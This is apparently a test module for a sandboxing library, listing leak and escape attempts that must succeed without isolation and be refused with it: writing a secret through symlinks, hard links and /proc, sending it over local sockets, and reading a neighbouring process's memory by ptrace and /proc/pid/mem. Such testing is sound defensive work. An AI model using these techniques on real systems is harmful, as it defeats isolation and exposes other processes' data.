"""Ways for a program to give its plaintext away, as source, with what an observer outside then has of it.

Each attack is run twice: without isolation it must succeed, or it would prove nothing; with it, it must be refused.
"""

from __future__ import annotations

import contextlib
import json
import os
import socket
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path

from cloister.workload.isolation import Network

SECRET = b"the patient's name is Ada"
REFUSED = 7
PRELUDE = """
import ctypes, json, os, signal, socket, struct, subprocess, sys
places = json.loads(os.environ["PLACES"])
secret = os.environ["SECRET"].encode()
libc = ctypes.CDLL(None, use_errno=True)
def call(function, *arguments):
    result = function(*arguments)
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result
def leak():
"""
POSTLUDE = """
try:
    leak()
except OSError as error:
    print("refused:", error, file=sys.stderr)
    os._exit(7)
"""
NEIGHBOUR = """
import ctypes, os, sys
secret = ctypes.create_string_buffer(os.environ["SECRET"].encode()[::-1])
ctypes.CDLL(None).prctl(0x59616D61, ctypes.c_ulong(-1 & 0xFFFFFFFFFFFFFFFF), 0, 0, 0)  # PR_SET_PTRACER_ANY, where Yama is
print(ctypes.addressof(secret), flush=True)
sys.stdin.read()
"""
NONE = Network(access="none")
PORTS = Network(access="ports")


@dataclass(frozen=True, slots=True)
class Bench:
    """Where an attack takes place, and what it has reached."""

    allowed: Path
    """The program may write here."""
    outside: Path
    """And not here, nor below: its home, its working directory, a neighbour of the sealed tree."""
    places: dict[str, object]
    received: list[bytes] = field(default_factory=list)
    """What the listeners outside got."""


@dataclass(frozen=True, slots=True)
class Attack:
    """``source`` is the body of a function; ``leaked`` says what the observer has, given the program's output."""

    source: str
    leaked: Callable[[Bench, bytes], bool]
    network: Network = NONE
    unheard: bool = False
    """Nothing tells the program that nobody heard it."""

    def program(self) -> str:
        """The whole of it."""
        body = "\n".join("    " + line for line in self.source.strip().splitlines())
        return PRELUDE + body + POSTLUDE


def in_file(name: str) -> Callable[[Bench, bytes], bool]:
    """The plaintext is in this file outside."""
    return lambda bench, _: _holds(Path(str(bench.places[name])))


def _holds(path: Path) -> bool:
    try:
        return SECRET in path.read_bytes()
    except OSError:
        return False


def received(bench: Bench, _: bytes) -> bool:
    """A listener outside has it."""
    return SECRET in b"".join(bench.received)


def shown(_: Bench, output: bytes) -> bool:
    """The program shows what it must not have, or be."""
    return b"REACHED" in output


FILES: dict[str, Attack] = {
    "into /tmp of the machine": Attack("open(places['tmp'], 'wb').write(secret)", in_file("tmp")),
    "into /dev/shm of the machine": Attack("open(places['shm'], 'wb').write(secret)", in_file("shm")),
    "into its working directory": Attack("open('leak', 'wb').write(secret)", in_file("in cwd")),
    "into its home": Attack("open(os.path.expanduser('~/leak'), 'wb').write(secret)", in_file("in home")),
    "beside the sealed tree": Attack("open(places['beside'], 'wb').write(secret)", in_file("beside")),
    "through .. from the sealed tree": Attack(
        "open(places['allowed'] + '/../beside', 'wb').write(secret)", in_file("beside")
    ),
    "through /proc": Attack(
        "open('/proc/self/root' + places['beside'], 'wb').write(secret)", in_file("beside")
    ),
    "through a directory that it opened": Attack(
        """
directory = os.open(os.path.dirname(places['beside']), os.O_RDONLY)
file = os.open('beside', os.O_WRONLY | os.O_CREAT, dir_fd=directory)
os.write(file, secret)
""",
        in_file("beside"),
    ),
    "through a symlink in the sealed tree": Attack(
        """
os.symlink(places['beside'], places['allowed'] + '/link')
open(places['allowed'] + '/link', 'wb').write(secret)
""",
        in_file("beside"),
    ),
    "as the target of a symlink outside": Attack(
        "os.symlink(secret, places['beside'])",
        lambda bench, _: Path(str(bench.places["beside"])).is_symlink(),
    ),
    "as a name of a directory outside": Attack(
        "os.mkdir(os.path.dirname(places['beside']).encode() + b'/' + secret)",
        lambda bench, _: (bench.outside / SECRET.decode()).exists(),
    ),
    "by a hard link out of the sealed tree": Attack(
        """
open(places['allowed'] + '/a', 'wb').write(secret)
os.link(places['allowed'] + '/a', places['beside'])
""",
        in_file("beside"),
    ),
    "by a hard link into the sealed tree": Attack(
        """
os.link(places['public'], places['allowed'] + '/a')
open(places['allowed'] + '/a', 'wb').write(secret)
""",
        in_file("public"),
    ),
    "by renaming out of the sealed tree": Attack(
        """
open(places['allowed'] + '/a', 'wb').write(secret)
os.rename(places['allowed'] + '/a', places['beside'])
""",
        in_file("beside"),
    ),
    "by renaming a folder into the sealed tree": Attack(
        """
os.rename(places['folder'], places['allowed'] + '/folder')
open(places['allowed'] + '/folder/file', 'wb').write(secret)
os.rename(places['allowed'] + '/folder', places['folder'])
""",
        in_file("in folder"),
    ),
    "over a file that everybody may write": Attack(
        "open(places['public'], 'r+b').write(secret)", in_file("public")
    ),
    "at the end of a file that everybody may write": Attack(
        "open(places['public'], 'ab').write(secret)", in_file("public")
    ),
    "as the length of a file that everybody may write": Attack(
        "os.truncate(places['public'], int.from_bytes(secret[:4], 'big') >> 8)",
        lambda bench, _: (
            Path(str(bench.places["public"])).stat().st_size == int.from_bytes(SECRET[:4], "big") >> 8
        ),
    ),
    "as an extended attribute of a file": Attack(
        "os.setxattr(places['public'], 'user.leak', secret)",
        lambda bench, _: "user.leak" in os.listxattr(str(bench.places["public"])),
    ),
    "through a pipe by name outside": Attack(
        "os.mkfifo(places['beside'])", lambda bench, _: Path(str(bench.places["beside"])).is_fifo()
    ),
    "by a program that it starts": Attack(
        """
done = subprocess.run(['/bin/sh', '-c', 'cat > "$0"', places['beside']], input=secret, stderr=subprocess.PIPE)
if done.returncode:
    raise OSError(done.stderr.decode())
""",
        in_file("beside"),
    ),
    "by a daemon that outlives it": Attack(
        """
reading, writing = os.pipe()
if os.fork() == 0:
    os.setsid()
    if os.fork():
        os._exit(0)
    try:
        open(places['beside'], 'wb').write(secret)
        os.write(writing, b'done')
    except OSError:
        pass
    os._exit(0)
os.wait()
os.close(writing)
if os.read(reading, 4) != b'done':
    raise OSError('the daemon could not')
""",
        in_file("beside"),
    ),
}

SEND = "client.connect(address); client.sendall(secret); client.close()"
TCP = f"address = ('127.0.0.1', places['tcp']); client = socket.socket(); {SEND}"
NETWORK: dict[str, Attack] = {
    "over TCP, with no network": Attack(TCP, received),
    "over TCP, to a port that is not listed": Attack(TCP, received, PORTS),
    "over TCP by IPv6, to a port that is not listed": Attack(
        f"address = ('::1', places['tcp6']); client = socket.socket(socket.AF_INET6); {SEND}", received, PORTS
    ),
    "over TCP that connects by sending (fast open)": Attack(
        """
client = socket.socket()
client.sendto(secret, 0x20000000, ('127.0.0.1', places['tcp']))
client.close()
""",
        received,
        PORTS,
    ),
    "over multipath TCP": Attack(
        f"address = ('127.0.0.1', places['tcp']); client = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262); {SEND}",
        received,
        PORTS,
    ),
    "on a port that is not listed": Attack(
        """
server = socket.socket()
server.bind(('127.0.0.1', 0))
server.listen()
print('REACHED')
""",
        shown,
        PORTS,
    ),
    "over UDP, with no network": Attack(
        "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(secret, ('127.0.0.1', places['udp']))",
        received,
        unheard=True,
    ),
    "over UDP, with ports": Attack(
        "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(secret, ('127.0.0.1', places['udp']))",
        received,
        PORTS,
    ),
    "over an abstract Unix socket, with no network": Attack(
        f"address = '\\0' + places['abstract']; client = socket.socket(socket.AF_UNIX); {SEND}", received
    ),
    "over an abstract Unix socket, with ports": Attack(
        f"address = '\\0' + places['abstract']; client = socket.socket(socket.AF_UNIX); {SEND}",
        received,
        PORTS,
    ),
}

READ = "found = call(libc.process_vm_readv, places['neighbour'], ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)"
VECTORS = """
class Vector(ctypes.Structure):
    _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))
buffer = ctypes.create_string_buffer(len(secret))
local = Vector(ctypes.addressof(buffer), len(secret))
remote = Vector(places['address'], len(secret))
"""
SHOW = "\nif buffer.raw[::-1] == secret:\n    print('REACHED')\n"
PROCESSES: dict[str, Attack] = {
    "reads a neighbour's memory by ptrace": Attack(
        """
call(libc.ptrace, 16, places['neighbour'], None, None)
os.waitpid(places['neighbour'], 0x40000000)
libc.ptrace.restype = ctypes.c_long
word = libc.ptrace(1, places['neighbour'], ctypes.c_void_p(places['address']), None)
call(libc.ptrace, 17, places['neighbour'], None, None)
if struct.pack('<q', word) == secret[::-1][:8]:
    print('REACHED')
""",
        shown,
    ),
    "reads a neighbour's memory by process_vm_readv": Attack(VECTORS + READ + SHOW, shown),
    "writes a neighbour's memory by process_vm_writev": Attack(
        VECTORS + READ.replace("readv", "writev") + "\nprint('REACHED')\n", shown
    ),
    "reads a neighbour's memory through /proc": Attack(
        """
with open(f"/proc/{places['neighbour']}/mem", 'rb', buffering=0) as memory:
    memory.seek(places['address'])
    if memory.read(len(secret))[::-1] == secret:
        print('REACHED')
""",
        shown,
    ),
    "reads the environment of who started it": Attack(
        "if b'PATH' in open(f'/proc/{os.getppid()}/environ', 'rb').read():\n    print('REACHED')\n", shown
    ),
    "takes a descriptor of a neighbour": Attack(
        """
neighbour = os.pidfd_open(places['neighbour'])
call(libc.syscall, 438, neighbour, 1, 0)
print('REACHED')
""",
        shown,
    ),
    "signals a neighbour": Attack("os.kill(places['neighbour'], signal.SIGCONT)\nprint('REACHED')\n", shown),
    "makes a namespace in which it is root": Attack(
        "call(libc.unshare, 0x10000000 | 0x20000)\nprint('REACHED')\n", shown
    ),
    "mounts a file system": Attack(
        """
uid, gid = os.getuid(), os.getgid()
if libc.unshare(0x20000):
    call(libc.unshare, 0x10000000 | 0x20000)
call(libc.mount, b'tmpfs', places['allowed'].encode(), b'tmpfs', 0, None)
print('REACHED')
""",
        shown,
    ),
    "queues a write where no filter looks (io_uring)": Attack(
        "call(libc.syscall, 425, 4, ctypes.create_string_buffer(120))\nprint('REACHED')\n", shown
    ),
    "uses a descriptor that the launcher left open": Attack(
        "os.write(places['left open'], secret)", in_file("beside")
    ),
}


@contextlib.contextmanager
def bench(tmp_path: Path) -> Iterator[Bench]:
    """Folders, listeners and a neighbour of the same user; what was made outside of ``tmp_path`` is removed."""
    allowed, outside, cwd, home = (tmp_path / name for name in ("outside/allowed", "outside", "cwd", "home"))
    for folder in (outside, allowed, cwd, home, outside / "folder"):
        folder.mkdir()
    (outside / "public").write_bytes(b"public")
    (outside / "public").chmod(0o666)
    name = f"cloister-leak-{os.getpid()}-{tmp_path.name}"
    places: dict[str, object] = {
        "allowed": str(allowed),
        "beside": str(outside / "beside"),
        "public": str(outside / "public"),
        "folder": str(outside / "folder"),
        "in folder": str(outside / "folder" / "file"),
        "in cwd": str(cwd / "leak"),
        "in home": str(home / "leak"),
        "tmp": f"/tmp/{name}",
        "shm": f"/dev/shm/{name}",
        "abstract": name,
    }
    with contextlib.ExitStack() as stack:
        made = Bench(allowed, outside, places)
        for key in ("tmp", "shm"):
            stack.callback(Path(str(places[key])).unlink, missing_ok=True)
        for key, listener in _listeners(name):
            stack.enter_context(listener)
            places[key] = listener.getsockname()[1] if listener.family != socket.AF_UNIX else name
            threading.Thread(target=_receive, args=(listener, made.received), daemon=True).start()
            stack.callback(_end, listener)
        neighbour = stack.enter_context(
            subprocess.Popen(
                [sys.executable, "-c", NEIGHBOUR],
                stdin=subprocess.PIPE,
                stdout=subprocess.PIPE,
                env={"SECRET": SECRET.decode()},
            )
        )
        stack.callback(neighbour.kill)
        assert neighbour.stdout is not None
        places["neighbour"], places["address"] = neighbour.pid, int(neighbour.stdout.readline())
        yield made


def environment(made: Bench) -> dict[str, str]:
    """What the attacking program is given."""
    home = Path(str(made.places["in home"])).parent
    return {
        "SECRET": SECRET.decode(),
        "PLACES": json.dumps(made.places),
        "HOME": str(home),
        "PATH": "/usr/bin:/bin",
    }


def _listeners(name: str) -> Iterator[tuple[str, socket.socket]]:
    tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    tcp.bind(("127.0.0.1", 0))
    tcp.setsockopt(socket.IPPROTO_TCP, socket.TCP_FASTOPEN, 4)
    tcp6 = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
    tcp6.bind(("::1", 0))
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", 0))
    abstract = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    abstract.bind(f"\0{name}")
    for listener in (tcp, tcp6, abstract):
        listener.listen()
    yield from (("tcp", tcp), ("tcp6", tcp6), ("udp", udp), ("abstract", abstract))


def _receive(listener: socket.socket, received: list[bytes]) -> None:
    with contextlib.suppress(OSError):
        while True:
            if listener.type == socket.SOCK_DGRAM:
                if not (data := listener.recv(4096)):
                    return
                received.append(data)
                continue
            connection, _ = listener.accept()
            with connection:
                while data := connection.recv(4096):
                    received.append(data)


def _end(listener: socket.socket) -> None:
    with contextlib.suppress(OSError):
        listener.shutdown(socket.SHUT_RDWR)
